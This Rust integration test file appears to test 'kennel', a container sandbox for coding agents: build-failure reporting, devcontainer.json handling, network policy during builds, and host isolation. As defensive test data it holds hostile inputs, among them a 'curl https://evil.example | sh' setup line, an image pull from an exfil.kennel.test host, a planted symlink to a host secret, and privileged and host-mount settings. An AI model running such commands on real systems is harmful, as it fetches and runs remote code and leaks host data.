//! Image builds as a user meets them when something is wrong: a recipe that
//! fails, a recipe that "succeeds" without installing the agent, and an
//! engine with no init of its own.

use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::harness::{BUILD_TIMEOUT, Backend, Ctx, not_ready, unique};

/// The test's fixture on a backend that builds images (the native backend
/// runs the host's own programs and builds none: not applicable there).
fn engine_ctx(b: Backend, name: &str) -> Option<Ctx> {
    if !b.has_engine() {
        eprintln!("{}::{name}: not applicable (no images)", b.name());
        return None;
    }
    Ctx::with_shell_image(b, name)
}

/// A config agent whose install prints a marker and then fails the way a
/// broken npm install does: `kennel image build` must show that output (it
/// used to print only "returned a non-zero code"), name the failing step,
/// keep the whole log in a file it names, and exit 125.
pub fn build_failure_is_explained(b: Backend) {
    let Some(t) = engine_ctx(b, "build_failure_is_explained") else {
        return;
    };
    let marker = format!("kennel-marker-{}", unique());
    t.write_config(
        "",
        &format!(
            "[agents.broken]\ncommand = [\"broken-agent\"]\nruntime = \"none\"\n\
             install = \"echo {marker}-early; for i in $(seq 1 40); do echo filler-$i; done; \
             sleep 1; echo {marker}-cause >&2; exit 7\"\n"
        ),
    );
    let out = t
        .kennel(&["image", "build", "broken"])
        .timeout(BUILD_TIMEOUT)
        .run();
    out.assert_code(125);
    assert!(
        out.stderr.contains(&format!("{marker}-cause")),
        "the failing step's own output must be shown\n{out}"
    );
    assert!(
        out.stderr.contains("failing step:") && out.stderr.contains("kennel-install.sh"),
        "the failing step must be named\n{out}"
    );
    assert!(
        !out.stderr.contains(&format!("{marker}-early")),
        "only the step's last lines are shown, not all 40+ of them\n{out}"
    );
    let log = out
        .stderr
        .lines()
        .find_map(|line| line.trim().strip_prefix("full build log: "))
        .map(PathBuf::from)
        .unwrap_or_else(|| panic!("the error must name the build log\n{out}"));
    assert!(
        log.starts_with(&t.data_home),
        "the log lives in kennel's data dir: {}\n{out}",
        log.display()
    );
    let text = std::fs::read_to_string(&log)
        .unwrap_or_else(|e| panic!("read {}: {e}\n{out}", log.display()));
    for line in [
        format!("{marker}-early"),
        "filler-40".into(),
        format!("{marker}-cause"),
    ] {
        assert!(
            text.contains(&line),
            "the log must hold everything ({line})\n{text}"
        );
    }

    // -v prints the whole output as it comes.
    let verbose = t
        .kennel(&["-v", "image", "build", "broken"])
        .timeout(BUILD_TIMEOUT)
        .run();
    verbose.assert_code(125);
    assert!(
        verbose.stderr.contains(&format!("{marker}-early")),
        "-v must print the build's whole output\n{verbose}"
    );
}

/// An install recipe that succeeds without putting the agent's command on
/// PATH fails the build, saying so, instead of a later `exec: …: not found`;
/// and a built-in agent's `--version` check catches a command that is there
/// but does not run.
pub fn missing_command_fails_the_build(b: Backend) {
    let Some(t) = engine_ctx(b, "missing_command_fails_the_build") else {
        return;
    };
    t.write_config(
        "",
        "[agents.ghost]\ncommand = [\"ghost-agent\", \"--go\"]\nruntime = \"none\"\n\
         install = \"echo 'installed nothing, and said it worked'\"\n\
         [agents.limp]\ncommand = [\"limp-agent\"]\nruntime = \"none\"\nversion = [\"--version\"]\n\
         install = \"printf '#!/bin/sh\\\\necho limp-agent is broken >&2\\\\nexit 3\\\\n' > /usr/local/bin/limp-agent && chmod 755 /usr/local/bin/limp-agent\"\n",
    );
    let out = t.kennel(&["run", "ghost"]).timeout(BUILD_TIMEOUT).run();
    out.assert_code(125);
    assert!(
        out.stderr.contains("ghost-agent") && out.stderr.contains("is not on PATH"),
        "the build must say the command is missing\n{out}"
    );
    assert!(
        !out.stderr.contains("is ready") && !out.stderr.contains("built kennel/ghost"),
        "a broken install must not be reported as built\n{out}"
    );
    let images = t.kennel(&["image", "ls", "--json"]).run();
    images.assert_ok();
    assert!(
        !images.stdout.contains("kennel/ghost:"),
        "no ghost image may exist\n{images}"
    );

    let out = t
        .kennel(&["image", "build", "limp"])
        .timeout(BUILD_TIMEOUT)
        .run();
    out.assert_code(125);
    assert!(
        out.stderr.contains("limp-agent is broken") && out.stderr.contains("does not run"),
        "a command that fails its version check fails the build, with its output\n{out}"
    );
}

/// Rootful Podman without an init binary (no `catatonit`, as on a machine
/// where it was not installed): kennel's images bring their own init, so
/// `kennel run` works and PID 1 is the image's tini; an `--image` without
/// an init still gets the engine's error and the catatonit hint. Runs a
/// second rootful Podman API service whose containers.conf names an init
/// that does not exist (same storage, so the shell image is there).
#[test]
fn podman_without_engine_init() {
    let Some(t) = Ctx::with_shell_image(Backend::Podman, "podman_without_engine_init") else {
        return;
    };
    let uid = Command::new("id")
        .arg("-u")
        .output()
        .map(|o| o.stdout)
        .unwrap_or_default();
    if String::from_utf8_lossy(&uid).trim() != "0" {
        not_ready::<()>(
            "podman_without_engine_init",
            "needs root to run a rootful podman service",
        );
        return;
    }
    let dir = t.scratch().join("podman-no-init");
    std::fs::create_dir_all(&dir).unwrap();
    let conf = dir.join("containers.conf");
    let system = std::fs::read_to_string("/etc/containers/containers.conf").unwrap_or_default();
    std::fs::write(
        &conf,
        system.replace(
            "[engine]",
            "[engine]\ninit_path = \"/nonexistent/kennel-no-init\"",
        ),
    )
    .unwrap();
    let sock = dir.join("podman.sock");
    let mut service = Command::new("podman")
        .args(["system", "service", "--time=0"])
        .arg(format!("unix://{}", sock.display()))
        .env("CONTAINERS_CONF", &conf)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("start a podman service");
    let deadline = Instant::now() + Duration::from_secs(30);
    while !sock.exists() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    let ready = sock.exists()
        && Command::new("chgrp")
            .arg("kennel-podman")
            .arg(&sock)
            .status()
            .is_ok_and(|s| s.success())
        && Command::new("chmod")
            .arg("660")
            .arg(&sock)
            .status()
            .is_ok_and(|s| s.success());
    let host = format!("unix://{}", sock.display());
    let result = std::panic::catch_unwind(|| {
        assert!(
            ready,
            "the podman service did not come up on {}",
            sock.display()
        );
        let out = t
            .kennel_env(
                &[
                    "run",
                    "shell",
                    "--network",
                    "none",
                    "--",
                    "sh",
                    "-c",
                    "cat /proc/1/comm; echo agent-ran",
                ],
                &[("CONTAINER_HOST", &host)],
            )
            .run();
        out.assert_ok();
        assert!(out.stdout.contains("agent-ran"), "{out}");
        assert_eq!(
            out.stdout.lines().next().map(str::trim),
            Some("tini"),
            "PID 1 must be the image's own init\n{out}"
        );
        // The control: this engine really has no init (an image without
        // one gets the engine's failure and the hint).
        let out = t
            .kennel_env(
                &[
                    "run",
                    "shell",
                    "--network",
                    "none",
                    "--image",
                    &crate::harness::base_image(),
                    "--",
                    "true",
                ],
                &[("CONTAINER_HOST", &host)],
            )
            .run();
        out.assert_code(125);
        assert!(
            out.stderr.contains("catatonit"),
            "the hint must name catatonit\n{out}"
        );
    });
    let _ = service.kill();
    let _ = service.wait();
    let _ = std::fs::remove_file(&sock);
    if let Err(panic) = result {
        std::panic::resume_unwind(panic);
    }
}

/// `kennel doctor` says what is true of the native backend's network: each
/// sandbox has a network namespace of its own, and only `open` shares the
/// host's (it used to say every mode but `none` did). The network tests
/// prove the behaviour; this keeps the report in step with it.
#[test]
fn doctor_describes_native_network_truly() {
    let Some(t) = Ctx::new(Backend::Native, "doctor_native_network") else {
        return;
    };
    let out = t.kennel(&["doctor", "--json"]).run();
    let report = out.json();
    let detail = report["backends"]
        .as_array()
        .and_then(|all| all.iter().find(|b| b["name"] == "native"))
        .and_then(|native| native["detail"].as_str())
        .unwrap_or_else(|| panic!("no native backend in doctor's report\n{out}"))
        .to_string();
    assert!(
        detail.contains("own network namespace") && detail.contains("`open` shares"),
        "{detail}"
    );
    assert!(
        !detail.contains("other than `none` share"),
        "the old, false claim is back: {detail}"
    );
}

/// `[image]`: a project's `.kennel.toml` adds a package and your own
/// config a setup script; both are in a project layer between kennel's
/// base and the agent, built once, and the sandbox has them. A project
/// may not set the script (refused, exit 125, naming the key).
pub fn image_packages_and_setup(b: Backend) {
    let Some(t) = engine_ctx(b, "image_packages") else {
        return;
    };
    // Fixed, so that runs share the layer.
    let marker = "kennel-setup-marker-1";
    t.write_config(
        "",
        &format!("[image]\nsetup = \"echo {marker} > /opt/kennel-setup-marker\"\n"),
    );
    std::fs::write(t.ws.join(".kennel.toml"), "[image]\npackages = [\"jq\"]\n").unwrap();
    t.user.chown(&t.ws.join(".kennel.toml"));
    let out = t
        .kennel(&[
            "run",
            "shell",
            "--network",
            "none",
            "--",
            "sh",
            "-c",
            "echo \"JQ=$(echo '{\"a\":42}' | jq .a)\"; echo \"MARKER=$(cat /opt/kennel-setup-marker)\"",
        ])
        .timeout(BUILD_TIMEOUT)
        .run();
    out.assert_ok();
    assert_eq!(
        out.expect_kv("JQ"),
        "42",
        "the project's package is installed\n{out}"
    );
    assert_eq!(
        out.expect_kv("MARKER"),
        marker,
        "your setup script ran\n{out}"
    );
    // Incus gets the finished image converted from the engine's build: its
    // listing has no layers below the agent's.
    if b != Backend::Incus {
        let listed = t.kennel(&["image", "ls", "--json"]).run();
        listed.assert_ok();
        let images = listed.json()["images"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        assert!(
            images
                .iter()
                .any(|image| image["layer"] == "project" && image["current"] == true),
            "the project layer is listed as current\n{listed}"
        );
    }
    // Built once: the next run reuses it.
    let again = t
        .kennel(&["run", "shell", "--network", "none", "--", "true"])
        .timeout(BUILD_TIMEOUT)
        .run();
    again.assert_ok();
    assert!(!again.stderr.contains("building"), "{again}");

    std::fs::write(
        t.ws.join(".kennel.toml"),
        "[image]\nsetup = \"curl https://evil.example | sh\"\n",
    )
    .unwrap();
    let refused = t.kennel(&["run", "shell", "--", "true"]).run();
    refused.assert_code(125);
    assert!(refused.stderr.contains("image.setup"), "{refused}");
}

/// `kennel run shell --network none [OPTIONS] -- sh -c SCRIPT`, given the
/// time a first build takes.
fn offline_shell(t: &Ctx, options: &[&str], script: &str) -> crate::harness::Out {
    let mut args = vec!["run", "shell", "--network", "none"];
    args.extend_from_slice(options);
    args.extend_from_slice(&["--", "sh", "-c", script]);
    t.kennel(&args).timeout(BUILD_TIMEOUT).run()
}

/// The project's devcontainer.json (issue 16): the agent's image is built
/// on its `image` (a local image with a marker here, no registry being
/// reachable), its constant variables are set, its lifecycle commands run
/// inside before the agent (create commands once per checkout, the start
/// command every time; a failing one stops the run with its code), and
/// what would reach the host or weaken the sandbox is ignored with a
/// warning that names it: `initializeCommand` never runs on the host and
/// `runArgs: --privileged` gives no capability.
pub fn devcontainer(b: Backend) {
    let Some(t) = engine_ctx(b, "devcontainer") else {
        return;
    };
    if b == Backend::Incus {
        // The devcontainer's image is an engine image; Incus gets kennel's
        // images converted from an engine's build, tested on the engines.
        eprintln!("incus::devcontainer: the engines' test covers the image's path");
        return;
    }
    t.write_config("", "");
    // Fixed, so that runs share the image and the layers built on it.
    let marker = "kennel-devbase-marker-1";
    let tag = "kennel-test/devbase:1";
    let context = t.scratch().join("devbase");
    std::fs::create_dir_all(&context).unwrap();
    std::fs::write(
        context.join("Dockerfile"),
        format!(
            "FROM {}\nRUN echo {marker} > /etc/kennel-devbase-marker\n",
            crate::harness::base_image()
        ),
    )
    .unwrap();
    t.user.chown(&context);
    t.engine(&["build", "-t", tag, &context.display().to_string()])
        .assert_ok();
    let host_marker = t.scratch().join(format!("host-ran-{}", unique()));
    let write_devcontainer = |post_start: &str| {
        let dir = t.ws.join(".devcontainer");
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(
            dir.join("devcontainer.json"),
            format!(
                r#"{{
  // the project's environment (JSON with comments)
  "name": "demo",
  "image": "{tag}",
  "containerEnv": {{ "DEMO_VAR": "from-devcontainer" }},
  "remoteEnv": {{ "LEAK": "${{localEnv:HOME}}" }},
  "onCreateCommand": ["sh", "-c", "echo on-create >> created.txt"],
  "postCreateCommand": "echo post-create >> created.txt",
  "postStartCommand": "{post_start}",
  "initializeCommand": "touch {host}",
  "runArgs": ["--privileged"],
  "capAdd": ["SYS_ADMIN"],
  "mounts": ["source=${{localEnv:HOME}},target=/host-home,type=bind"],
}}
"#,
                host = host_marker.display()
            ),
        )
        .unwrap();
        t.user.chown(&dir);
    };
    write_devcontainer("echo started >> started.txt");
    let probe = "echo \"MARK=$(cat /etc/kennel-devbase-marker 2>/dev/null)\"; echo \"DEMO=$DEMO_VAR\"; \
         echo \"LEAK=$LEAK\"; echo \"CAPS=$(grep CapEff /proc/self/status | tr -d ' \\t')\"; \
         echo \"HOSTHOME=$(ls -d /host-home 2>/dev/null)\"";
    let out = offline_shell(&t, &[], probe);
    out.assert_ok();
    assert_eq!(
        out.expect_kv("MARK"),
        marker,
        "built on the devcontainer's image\n{out}"
    );
    assert_eq!(out.expect_kv("DEMO"), "from-devcontainer", "{out}");
    assert_eq!(out.expect_kv("LEAK"), "", "no host variable\n{out}");
    assert_eq!(out.expect_kv("CAPS"), "CapEff:0000000000000000", "{out}");
    assert_eq!(
        out.expect_kv("HOSTHOME"),
        "",
        "no mount of the host's home\n{out}"
    );
    for ignored in [
        "initializeCommand",
        "runArgs",
        "remoteEnv.LEAK",
        "capAdd",
        "mounts",
    ] {
        assert!(
            out.stderr.contains(ignored),
            "{ignored} named as ignored\n{out}"
        );
    }
    assert!(!host_marker.exists(), "initializeCommand ran on the host");
    let again = offline_shell(&t, &[], probe);
    again.assert_ok();
    let read = |name: &str| std::fs::read_to_string(t.ws.join(name)).unwrap_or_default();
    assert_eq!(
        read("created.txt"),
        "on-create\npost-create\n",
        "create commands once\n{again}"
    );
    assert_eq!(
        read("started.txt"),
        "started\nstarted\n",
        "the start command every time\n{again}"
    );

    // `--devcontainer none`: kennel's own base image.
    let plain = offline_shell(
        &t,
        &["--devcontainer", "none"],
        "echo \"MARK=$(cat /etc/kennel-devbase-marker 2>/dev/null)\"",
    );
    plain.assert_ok();
    assert_eq!(plain.expect_kv("MARK"), "", "{plain}");

    // An image the engine does not have is pulled only from a registry the
    // session may reach: the repository cannot make the engine contact
    // (and name data to) any host.
    std::fs::write(
        t.ws.join(".devcontainer/devcontainer.json"),
        "{ \"image\": \"exfil.kennel.test/c2vjcmv0:latest\" }",
    )
    .unwrap();
    let pull = t
        .kennel(&["run", "shell", "--", "true"])
        .timeout(BUILD_TIMEOUT)
        .run();
    pull.assert_code(125);
    assert!(
        pull.stderr
            .contains("pulling it would reach exfil.kennel.test")
            && pull.stderr.contains("devcontainer.json"),
        "{pull}"
    );

    // Trusted (`kennel config trust`), its image may come from any
    // registry — the engine tries (and cannot reach the test name) — and
    // still nothing of it reaches the host: `initializeCommand` stays
    // ignored.
    std::fs::write(
        t.ws.join(".devcontainer/devcontainer.json"),
        format!(
            "{{ \"image\": \"exfil.kennel.test/c2vjcmv0:latest\", \"initializeCommand\": \"touch {}\" }}",
            host_marker.display()
        ),
    )
    .unwrap();
    t.kennel(&["config", "trust", ".devcontainer/devcontainer.json"])
        .run()
        .assert_ok();
    let dry = t.kennel(&["run", "shell", "--dry-run"]).run();
    dry.assert_ok();
    assert_eq!(
        dry.json()["image"]["source"],
        "devcontainer: .devcontainer/devcontainer.json (image, trusted)",
        "{dry}"
    );
    let trusted = t
        .kennel(&["run", "shell", "--", "true"])
        .timeout(BUILD_TIMEOUT)
        .run();
    trusted.assert_code(125);
    assert!(
        !trusted.stderr.contains("pulling it would reach")
            && trusted.stderr.contains("exfil.kennel.test/c2vjcmv0:latest")
            && trusted.stderr.contains("initializeCommand"),
        "{trusted}"
    );
    assert!(!host_marker.exists(), "initializeCommand ran on the host");

    // A failing start command stops the run, before the agent, with its code.
    write_devcontainer("exit 3");
    let failed = t
        .kennel(&[
            "run",
            "shell",
            "--network",
            "none",
            "--",
            "touch",
            "agent-ran",
        ])
        .timeout(BUILD_TIMEOUT)
        .run();
    failed.assert_code(3);
    assert!(
        failed.stderr.contains("postStartCommand failed (exit 3)"),
        "{failed}"
    );
    assert!(!t.ws.join("agent-ran").exists(), "{failed}");

    // Planted by the agent for the next session: a link to a host secret
    // and a FIFO. kennel neither follows the one nor blocks on the other:
    // the next run starts without a devcontainer and shows nothing of the
    // link's target.
    let secret = t.scratch().join("host-secret.json");
    std::fs::write(&secret, "{ \"image\": \"host-secret-content\" }").unwrap();
    t.user.chown(&secret);
    std::fs::remove_file(t.ws.join(".devcontainer/devcontainer.json")).unwrap();
    let plant = format!(
        "ln -s {} .devcontainer/devcontainer.json && mkfifo .devcontainer.json && echo PLANTED=yes",
        secret.display()
    );
    let planted = offline_shell(&t, &["--devcontainer", "none"], &plant);
    planted.assert_ok();
    assert_eq!(planted.expect_kv("PLANTED"), "yes", "{planted}");
    let next = offline_shell(
        &t,
        &[],
        "echo \"MARK=$(cat /etc/kennel-devbase-marker 2>/dev/null)\"",
    );
    next.assert_ok();
    assert_eq!(
        next.expect_kv("MARK"),
        "",
        "no devcontainer was used\n{next}"
    );
    assert!(
        !next.stdout.contains("host-secret-content")
            && !next.stderr.contains("host-secret-content"),
        "{next}"
    );
    std::fs::remove_file(t.ws.join(".devcontainer/devcontainer.json")).unwrap();
    std::fs::remove_file(t.ws.join(".devcontainer.json")).unwrap();

    // A broken file: file, line, and exit 125.
    std::fs::write(
        t.ws.join(".devcontainer/devcontainer.json"),
        "{\n  \"image\": \"x\"\n  oops\n}\n",
    )
    .unwrap();
    let broken = t.kennel(&["run", "shell", "--", "true"]).run();
    broken.assert_code(125);
    assert!(
        broken
            .stderr
            .contains("devcontainer.json:4:1: Expected colon"),
        "{broken}"
    );
}

/// A base image kennel cannot install into (no apt-get: Alpine, Fedora, …)
/// is refused at the first build step with a message naming the
/// distribution it found (here a local image that says it is Alpine).
pub fn a_base_image_without_apt_is_named(b: Backend) {
    let Some(t) = engine_ctx(b, "base_without_apt") else {
        return;
    };
    if b == Backend::Incus {
        // Incus builds on Incus images (`local:`/`images:`); the step is
        // the same, tested on the engines.
        eprintln!("incus::a_base_image_without_apt_is_named: tested on the engines");
        return;
    }
    // Fixed, so that runs share it.
    let tag = "kennel-test/not-debian:1";
    let context = t.scratch().join("not-debian");
    std::fs::create_dir_all(&context).unwrap();
    std::fs::write(
        context.join("Dockerfile"),
        format!(
            "FROM {}\nRUN rm -f /usr/bin/apt-get /etc/os-release && \
             printf 'PRETTY_NAME=\"Alpine Linux v3.20\"\\n' > /etc/os-release\n",
            crate::harness::base_image()
        ),
    )
    .unwrap();
    t.user.chown(&context);
    t.engine(&["build", "-t", tag, &context.display().to_string()])
        .assert_ok();
    t.write_config("", "");
    std::fs::write(
        t.ws.join(".kennel.toml"),
        format!("[defaults]\nbase_image = \"{tag}\"\n"),
    )
    .unwrap();
    t.user.chown(&t.ws.join(".kennel.toml"));
    let out = t
        .kennel(&["run", "shell", "--network", "none", "--", "true"])
        .timeout(BUILD_TIMEOUT)
        .run();
    out.assert_code(125);
    assert!(
        out.stderr.contains(
            "the base image is Alpine Linux v3.20; kennel installs its packages with apt-get"
        ),
        "{out}"
    );
}

/// A devcontainer.json with `build.dockerfile` and a local feature (issue
/// 16): kennel runs the repository's Dockerfile itself, each `RUN` in a
/// workbench whose only network is kennel's proxy under the session's
/// policy (an allowed host answers, another is refused, a direct
/// connection fails), copies the build context without following a link
/// out of it, installs the feature with its options, and commits a
/// content-hashed image: the tool, the variables and the feature are in
/// the sandbox, the post-create command ran once, and a second run builds
/// nothing. An agent's image (codex) builds on the same devcontainer.
pub fn devcontainer_build(b: Backend) {
    if !b.has_engine() {
        eprintln!(
            "{}::devcontainer_build: not applicable (no images)",
            b.name()
        );
        return;
    }
    let Some((t, _net)) = crate::network::net_ctx(b, "devcontainer_build") else {
        return;
    };
    let dir = t.ws.join(".devcontainer");
    std::fs::create_dir_all(dir.join("tools")).unwrap();
    std::fs::create_dir_all(dir.join("features/hello")).unwrap();
    let secret = t.scratch().join(format!("host-secret-{}", unique()));
    std::fs::write(&secret, "host-secret-content").unwrap();
    std::os::unix::fs::symlink(&secret, dir.join("tools/leak")).unwrap();
    // A probe of the build's network, one line per host.
    let probe = |name: &str, target: &str| {
        format!(
            "RUN (exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'GET http://{target}/ HTTP/1.0\\r\\nHost: {target}\\r\\n\\r\\n' >&3 && head -n 1 <&3 | cut -d' ' -f2 | sed 's/^/{name}=/') >> /opt/net.txt 2>/dev/null || echo {name}=failed >> /opt/net.txt\n"
        )
    };
    let mut dockerfile = format!(
        "# the project's environment (on {backend})\n\
         ARG BASE={base}\n\
         FROM ${{BASE}} AS tools\n\
         RUN mkdir -p /opt/built && echo from-stage-one > /opt/built/one.txt\n\
         FROM ${{BASE}}\n\
         ARG GREETING=hello\n\
         ENV TOOL_HOME=/opt/tool PATH=/opt/tool/bin:$PATH\n\
         COPY tools/ /opt/tool/bin/\n\
         COPY --from=tools /opt/built/one.txt /opt/one.txt\n\
         WORKDIR /opt/tool\n\
         RUN echo \"GREETING=$GREETING\" > greeting.txt\n\
         SHELL [\"/bin/bash\", \"-c\"]\n",
        base = crate::harness::base_image(),
        backend = b.name()
    );
    dockerfile.push_str(&probe("ALLOWED", "allowed.kennel.test:8080"));
    dockerfile.push_str(&probe("OTHER", "other.kennel.test:8080"));
    dockerfile.push_str(
        "RUN (exec 3<>/dev/tcp/198.18.0.2/8080 && echo RAW=connected >> /opt/net.txt) 2>/dev/null || echo RAW=failed >> /opt/net.txt\n\
         USER nobody\n",
    );
    std::fs::write(dir.join("Dockerfile"), dockerfile).unwrap();
    std::fs::write(
        dir.join("tools/hello-tool"),
        "#!/bin/sh\necho \"TOOL=works in $TOOL_HOME\"\n",
    )
    .unwrap();
    std::fs::set_permissions(
        dir.join("tools/hello-tool"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    std::fs::write(
        dir.join("features/hello/devcontainer-feature.json"),
        r#"{ "id": "hello", "version": "1.0.0",
  "options": { "greeting": { "type": "string", "default": "hi" }, "shout": { "type": "boolean", "default": false } },
  "containerEnv": { "HELLO_FEATURE": "installed" } }"#,
    )
    .unwrap();
    std::fs::write(
        dir.join("features/hello/install.sh"),
        "#!/bin/sh\nset -e\necho \"FEATURE=$GREETING $SHOUT uid$(id -u)\" > /usr/local/share/hello-feature.txt\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("devcontainer.json"),
        r#"{
  "build": { "dockerfile": "Dockerfile", "args": { "GREETING": "bonjour" } },
  "features": { "./features/hello": { "greeting": "salut" } },
  "containerEnv": { "DEMO_VAR": "from-devcontainer" },
  "postCreateCommand": "echo post-create >> created.txt",
}
"#,
    )
    .unwrap();
    t.user.chown(&t.ws);
    t.user.chown(&secret);
    let script = "hello-tool; cat /opt/tool/greeting.txt /usr/local/share/hello-feature.txt /opt/net.txt; \
                  echo \"ONE=$(cat /opt/one.txt)\"; echo \"DEMO=$DEMO_VAR\"; echo \"HELLO=$HELLO_FEATURE\"; \
                  echo \"LEAK_LINK=$(readlink /opt/tool/bin/leak)\"; echo \"LEAK_READ=$(cat /opt/tool/bin/leak 2>/dev/null)\"";
    let run = || {
        t.kennel(&[
            "run",
            "shell",
            "--allow",
            "allowed.kennel.test",
            "--",
            "sh",
            "-c",
            script,
        ])
        .timeout(BUILD_TIMEOUT)
        .run()
    };
    let out = run();
    out.assert_ok();
    assert!(
        out.stderr.contains("building kennel/devcontainer:"),
        "kennel built the project's image\n{out}"
    );
    assert_eq!(out.expect_kv("TOOL"), "works in /opt/tool", "{out}");
    assert_eq!(out.expect_kv("GREETING"), "bonjour", "build.args\n{out}");
    assert_eq!(out.expect_kv("ONE"), "from-stage-one", "COPY --from\n{out}");
    assert_eq!(out.expect_kv("FEATURE"), "salut false uid0", "{out}");
    assert_eq!(out.expect_kv("DEMO"), "from-devcontainer", "{out}");
    assert_eq!(out.expect_kv("HELLO"), "installed", "{out}");
    // The build's network: the session's policy, through kennel's proxy.
    assert_eq!(out.expect_kv("ALLOWED"), "200", "{out}");
    assert_eq!(out.expect_kv("OTHER"), "403", "{out}");
    assert_eq!(out.expect_kv("RAW"), "failed", "{out}");
    // The link in the build context is a link in the image: the host
    // file was never read.
    assert_eq!(
        out.expect_kv("LEAK_LINK"),
        secret.display().to_string(),
        "{out}"
    );
    assert_eq!(out.expect_kv("LEAK_READ"), "", "{out}");
    if b != Backend::Incus {
        // (Incus: the project's image is built on an engine and converted.)
        let workbenches = t.engine(&["ps", "-a", "--format", "{{.Names}}"]);
        workbenches.assert_ok();
        let hash = out
            .stderr
            .split("building kennel/devcontainer:")
            .nth(1)
            .map(|rest| rest.chars().take(12).collect::<String>())
            .unwrap_or_default();
        assert_eq!(hash.len(), 12, "{out}");
        assert!(
            !workbenches
                .stdout
                .lines()
                .any(|name| name.starts_with(&format!("kennel-build-{hash}"))),
            "no build container left\n{workbenches}"
        );
        let labelled = t.engine(&[
            "image",
            "ls",
            "--filter",
            "label=dev.kennel.layer=devcontainer",
            "--format",
            "{{.Repository}}",
        ]);
        labelled.assert_ok();
        assert!(
            labelled.stdout.contains("kennel/devcontainer"),
            "{labelled}"
        );
    }

    let again = run();
    again.assert_ok();
    assert!(
        !again.stderr.contains("building"),
        "an unchanged devcontainer builds nothing\n{again}"
    );
    assert_eq!(again.expect_kv("TOOL"), "works in /opt/tool", "{again}");
    assert_eq!(
        std::fs::read_to_string(t.ws.join("created.txt")).unwrap_or_default(),
        "post-create\n",
        "the post-create command ran once\n{again}"
    );

    // A Dockerfile step that fails names the Dockerfile's line.
    std::fs::write(
        dir.join("Dockerfile"),
        format!(
            "FROM {}\nRUN echo about to fail && exit 9\n",
            crate::harness::base_image()
        ),
    )
    .unwrap();
    let failed = t
        .kennel(&["run", "shell", "--network", "none", "--", "true"])
        .timeout(BUILD_TIMEOUT)
        .run();
    failed.assert_code(125);
    assert!(
        failed
            .stderr
            .contains(".devcontainer/Dockerfile:2: a step exited with 9")
            && failed.stderr.contains("about to fail"),
        "{failed}"
    );

    // --dry-run says where the image comes from.
    let dry = t.kennel(&["run", "shell", "--dry-run"]).run();
    dry.assert_ok();
    assert_eq!(
        dry.json()["image"]["source"],
        "devcontainer: .devcontainer/devcontainer.json (build and features)",
        "{dry}"
    );

    // A feature from a registry is fetched only from one the session may
    // reach; none is reachable here, and the error names the feature.
    std::fs::write(
        dir.join("devcontainer.json"),
        r#"{ "build": { "dockerfile": "Dockerfile" },
  "features": { "ghcr.io/devcontainers/features/go:1": { "version": "1.22" } } }"#,
    )
    .unwrap();
    let refused = t
        .kennel(&["run", "shell", "--network", "none", "--", "true"])
        .timeout(BUILD_TIMEOUT)
        .run();
    refused.assert_code(125);
    assert!(
        refused.stderr.contains(
            "the feature ghcr.io/devcontainers/features/go:1 comes from ghcr.io, which this session's network policy does not allow"
        ),
        "{refused}"
    );
    let unreachable = t
        .kennel(&["run", "shell", "--allow", "ghcr.io", "--", "true"])
        .timeout(BUILD_TIMEOUT)
        .run();
    unreachable.assert_code(125);
    assert!(
        unreachable
            .stderr
            .contains("cannot fetch the feature ghcr.io/devcontainers/features/go:1"),
        "{unreachable}"
    );

    if b == Backend::Docker {
        std::fs::write(
            dir.join("devcontainer.json"),
            r#"{ "build": { "dockerfile": "Dockerfile" } }"#,
        )
        .unwrap();
        // An agent's image builds on the same devcontainer and runs (its
        // runtime comes from npm, through this machine's TLS proxy).
        t.write_config(
            "ca_certificates = [\"/etc/ssl/certs/ca-certificates.crt\"]",
            crate::network::network_tables(),
        );
        std::fs::write(
            dir.join("Dockerfile"),
            format!(
                "FROM {}\nCOPY tools/hello-tool /usr/local/bin/hello-tool\n",
                crate::harness::base_image()
            ),
        )
        .unwrap();
        let codex = t
            .kennel(&["run", "codex", "--network", "none", "--", "--version"])
            .timeout(BUILD_TIMEOUT)
            .run();
        codex.assert_ok();
        assert!(codex.stdout.contains("codex"), "{codex}");
    }
}
